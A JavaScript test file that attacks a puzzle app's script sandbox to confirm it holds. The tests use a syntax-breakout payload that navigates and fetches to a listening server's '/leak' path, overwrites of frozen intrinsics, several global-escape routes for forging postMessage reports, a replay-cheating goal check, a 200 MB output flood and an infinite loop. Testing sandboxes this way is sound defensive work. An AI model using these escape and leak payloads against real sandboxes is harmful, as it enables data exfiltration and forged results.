// Attacks on the script sandbox (issue 60), each as a stranger's link or a pasted text would make
// it: the page must stay safe (a local server hears nothing), keep answering, and say only what
// the search found. Each test's comment says what its script tries.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { addressAfter, openPage, paste, status, waitForError, waitForStatus, useBrowser } from './harness.mjs';

useBrowser();

const HEAD = '// puzzlelab script js\n';

/// A local server that records every request it hears (none should come).
async function listening() {
  const heard = [];
  const server = createServer((request, response) => {
    heard.push(`${request.method} ${request.url}`);
    response.end('<!doctype html><title>reached</title>');
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { heard, server, at: `127.0.0.1:${server.address().port}` };
}

/// The link of `text`, made by a page (as the Share button would), then opened in a fresh context.
async function linkOf(text) {
  const { page, context } = await openPage();
  try {
    return await addressAfter(page, () => paste(page, text));
  } finally {
    await context.close();
  }
}

test('a text that breaks out of the syntax check runs nowhere: no request leaves, the frame stays the page\'s', async () => {
  // Point 1 and 2: the middle of "});…(function () {" used to run at the top of the sandbox's
  // own document, where it could navigate the frame to a server and leak what came later.
  const { heard, server, at } = await listening();
  const text = `${HEAD}});
location.href = 'http://${at}/leak?from=frame';
fetch('http://${at}/fetch');
(function () {
function start() { return 0; }
function moves() { return [1]; }
function apply(s, m) { return s + m; }
function is_goal(s) { return s === 1; }
`;
  const link = await linkOf(text);
  const { page, context, problems } = await openPage(link);
  try {
    await page.waitForFunction(() => document.querySelector('#error').textContent.length > 0 || document.querySelector('#status').textContent.startsWith('Ready'), null, { timeout: 30000 });
    await page.waitForTimeout(2000);
    assert.deepEqual(heard, [], 'nothing reached the local server');
    // The built-in examples still give their true answers.
    await page.selectOption('#examples', 'script-js-jugs');
    await waitForStatus(page, 'Ready');
    await page.click('#solve');
    await waitForStatus(page, 'Solved in 6 moves');
    // The frame is the page's own, with its policy enforced on whatever it loads. (Asked after
    // a solve: on a busy machine a check that did not answer in time has the frame thrown away,
    // and the next use makes a new one.)
    const frame = await page.evaluate(() => {
      const f = document.querySelector('iframe[sandbox]');
      return f && [f.getAttribute('sandbox'), f.getAttribute('csp')];
    });
    assert.equal(frame[0], 'allow-scripts');
    assert.match(frame[1], /^default-src 'none';/);
    assert.ok(problems.every((p) => !p.includes('reached')));
  } finally {
    await context.close();
    server.close();
  }
});

test('one script cannot change another\'s answers, nor forge its own report', async () => {
  const { page, context } = await openPage();
  try {
    // Point 3: a script that redefines Math.min (the intrinsics are frozen: it fails, and says so).
    await paste(page, `${HEAD}Math.min = () => 0;\nArray.prototype.indexOf = () => 0;\nfunction start() { return 0; }\nfunction moves() { return [1]; }\nfunction apply(s, m) { return s + m; }\nfunction is_goal(s) { return s === 1; }\n`);
    await waitForError(page, 'read only');
    assert.match(await page.textContent('#error'), /the script's top level failed: TypeError: Cannot assign to read only property 'min'/);
    // The Water jugs, solved next in the same tab: its true answer, 6.
    await page.selectOption('#examples', 'script-js-jugs');
    await waitForStatus(page, 'Ready');
    await page.click('#solve');
    await waitForStatus(page, 'Solved in 6 moves');
    // Point 4: a puzzle whose only solution takes 5 moves, whose script tries every way to post
    // a report of 1 move: none of the Worker's globals are in its compartment.
    await paste(page, `${HEAD}const tried = [];
for (const reach of [() => postMessage, () => self.postMessage, () => globalThis.postMessage,
    () => Function('return this')().postMessage, () => (0, eval)('this').postMessage,
    () => Object.getPrototypeOf(globalThis).postMessage, () => puzzlelabPort]) {
  try {
    const post = reach();
    if (typeof post === 'function') { post({ type: 'Finished', job: 1, report: { status: 'Solved', moves: ['+1'] } }); tried.push('posted'); }
    else tried.push('none');
  } catch (e) { tried.push(e.name); }
}
function start() { return 0; }
function moves() { return [1]; }
function apply(s, m) { return s < 5 ? s + m : null; }
function is_goal(s) { return s === 5; }
// And replaces postMessage for whatever runs after it.
try { globalThis.postMessage = () => {}; self.postMessage = () => {}; } catch (e) {}
function show(s) { return s + ' ' + tried.join(','); }
`);
    await waitForStatus(page, 'Ready');
    assert.doesNotMatch(await page.textContent('#position'), /posted/);
    await page.click('#solve');
    await waitForStatus(page, 'Solved in 5 moves');
    // The next script, in the same tab, still reports through the solver's channel: its answer.
    await page.selectOption('#examples', 'script-js-jugs');
    await waitForStatus(page, 'Ready');
    await page.click('#solve');
    await waitForStatus(page, 'Solved in 6 moves');
  } finally {
    await context.close();
  }
});

test('an answer that does not replay in a fresh Worker is refused, never shown', async () => {
  // Point 4's other half: a script that describes its puzzle one way while it is searched and
  // another way when it is replayed (its is_goal counts its own calls: only after 500 of them,
  // which the search makes and a replay does not, is a sequence of 6 moves solved). The search
  // reports 6 moves; the fresh Worker's replay ends on a position that is not solved.
  const { page, context } = await openPage();
  try {
    await paste(page, `${HEAD}let calls = 0;\nfunction start() { return []; }\nfunction moves(s) { return [1, 2, 3]; }\nfunction apply(s, m) { return s.concat([m]); }\nfunction is_goal(s) { calls++; return calls > 500 && s.length >= 6; }\n`);
    await waitForStatus(page, 'Ready');
    await page.click('#solve');
    await waitForStatus(page, 'The search\'s answer (6 moves) did not replay');
    assert.match(await status(page), /did not replay through the script's rules in a fresh Worker, so it is not shown: the position it ends on is not solved\.$/);
    assert.equal(await page.locator('#moves li').count(), 0, 'no moves are shown');
    // A hint's claim is checked the same way. From the position after one move, a new Worker's
    // search counts its calls afresh and says 6 moves are left; the 7 moves, replayed from the
    // start in a fresh Worker, do not end solved, so no hint is given.
    await page.getByRole('button', { name: '1', exact: true }).click();
    await page.waitForFunction(() => !document.querySelector('#hint').disabled);
    await page.click('#hint');
    await waitForStatus(page, 'The search\'s way from your move 1 (6 moves) did not replay');
    assert.match(await status(page), /in a fresh Worker, so no hint is given: the position it ends on is not solved\.$/);
  } finally {
    await context.close();
  }
});

test('what a script sends is bounded: a show() of 200 MB is refused and the page keeps answering', async () => {
  // Point 5: 200 MB from show() used to crash the page's process about 20 s after opening.
  const text = `${HEAD}function start() { return 0; }\nfunction moves() { return [1]; }\nfunction apply(s, m) { return s + m; }\nfunction is_goal(s) { return s === 1; }\nfunction show(s) { return 'x'.repeat(200 * 1024 * 1024); }\n`;
  const link = await linkOf(text);
  const { page, context } = await openPage(link);
  try {
    assert.equal(await page.inputValue('#puzzle-text'), text, 'the link opens the script');
    // The bound is what is checked, and the page's answer below, not how fast the script is.
    await waitForError(page, 'at most 64 KB');
    assert.match(await page.textContent('#error'), /show\(\) failed: RangeError: show\(\) returned 200\.0 MB of text; at most 64 KB is shown/);
    const started = Date.now();
    assert.equal(await page.evaluate(() => 1 + 1), 2);
    assert.ok(Date.now() - started < 1000, 'the page answers within a second');
  } finally {
    await context.close();
  }
});

test('a frame navigated away is rebuilt, a hung script is blamed and held on the next visit', async () => {
  // Point 6: a frame that loads a document the page did not write is thrown away, and the next
  // script solves in a new one.
  const { page, context } = await openPage();
  try {
    await page.selectOption('#examples', 'script-js-jugs');
    await waitForStatus(page, 'Ready');
    await page.evaluate(() => { document.querySelector('iframe[sandbox]').contentWindow.location = 'about:blank'; });
    await page.waitForFunction(() => document.querySelector('#status').textContent.includes('navigated away'), null, { timeout: 15000 });
    await page.waitForFunction(() => !document.querySelector('#solve').disabled, null, { timeout: 15000 });
    await page.click('#solve');
    await waitForStatus(page, 'Solved in 6 moves');
    // A script that never ends its top level: blamed (not the next one), and its link, opened
    // again in the same browser, is not run until Solve is pressed.
    await paste(page, `${HEAD}for (;;) {}\nfunction start() { return 0; }\nfunction moves() { return []; }\nfunction apply() { return null; }\nfunction is_goal() { return false; }\n`);
    await waitForError(page, 'did not answer');
    await page.waitForTimeout(700);
    const link = page.url();
    await page.selectOption('#examples', 'script-js-river');
    await waitForStatus(page, 'Ready');
    await page.click('#solve');
    await waitForStatus(page, 'Solved in 7 moves');
    // The next visit, in the same browser.
    const again = await context.newPage();
    await again.goto(link);
    await waitForError(again, 'has not been run');
    await waitForStatus(again, 'This script stopped answering the last time it ran here, so it has not been run. Press Solve to run it.');
    assert.equal(await again.isDisabled('#solve'), false, 'Solve runs it');
  } finally {
    await context.close();
  }
});
